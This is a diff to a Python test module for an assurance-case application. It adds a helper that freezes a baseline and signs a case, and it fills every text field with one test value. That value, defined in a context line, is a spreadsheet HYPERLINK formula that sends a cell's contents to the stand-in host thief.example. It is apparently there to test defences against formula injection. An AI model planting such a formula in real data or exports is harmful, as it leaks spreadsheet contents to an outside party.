@@ -14,13 +14,15 @@ from aims.tenancy.actions import issue_token
 from aims.tenancy.models import Member, Organisation
 from aims.tenancy.permissions import Role
 from aims.tenancy.scope import organisation_scope, working_in
-from cases.actions import add_comment, answer_challenge, raise_challenge, report_condition
+from cases.actions import add_comment, answer_challenge, freeze_baseline, raise_challenge, report_condition
 from cases.models import AssuranceCase, ClaimMetric, Element
 from tests.audits import making
 from tests.audits.material import ask
+from tests.cases import building
 from tests.cases.measuring import make_indicator, make_metric, reading, send
+from tests.cases.standing_behind import put_before_a_decision, sign
 from tests.cases.watching import make_condition
-from tests.factories import make_control, make_evidence, make_risk, make_system
+from tests.factories import PASSWORD, make_control, make_evidence, make_risk, make_system
 
 FORMULA = '=HYPERLINK("https://thief.example/?"&A1,"@open")'
 
@@ -75,6 +77,7 @@ def complete(troupe: Troupe) -> None:
         issue_token(troupe.officer, name=formula, scopes=["read"], days=1, actor=None)
         measure(troupe, formula)
         watch(troupe, formula)
+        freeze_and_sign(troupe, formula)
         doubt(troupe, formula)
 
 
@@ -103,6 +106,18 @@ def doubt(troupe: Troupe, formula: str) -> None:
     answer_challenge(row, response=formula, actor=troupe.officer)
     comment = add_comment(goal.case, body=formula, element=goal, actor=troupe.officer)
     add_comment(goal.case, body=formula, parent=comment, actor=troupe.auditor)
+
+
+def freeze_and_sign(troupe: Troupe, formula: str) -> None:
+    """A baseline of the first case, and a signature under a case that stands; every text a formula."""
+    freeze_baseline(AssuranceCase.objects.get(number=1), reason=formula, actor=troupe.officer)
+    troupe.owner.user.set_password(PASSWORD)
+    case = building.make_case(troupe, building.make_system(troupe, name=f"{formula} signed"), title=formula)
+    building.grow(case, troupe, "solution", "G1", formula)
+    building.bind(case, troupe, "Sn1", building.make_evidence(troupe, formula, days=None))
+    put_before_a_decision(troupe, case)
+    sign(case, actor=troupe.owner, statement=formula)
+    AssuranceCase.objects.filter(pk=case.pk).update(status=AssuranceCase.Status.DRAFT)
 
 
 @pytest.fixture(scope="package")
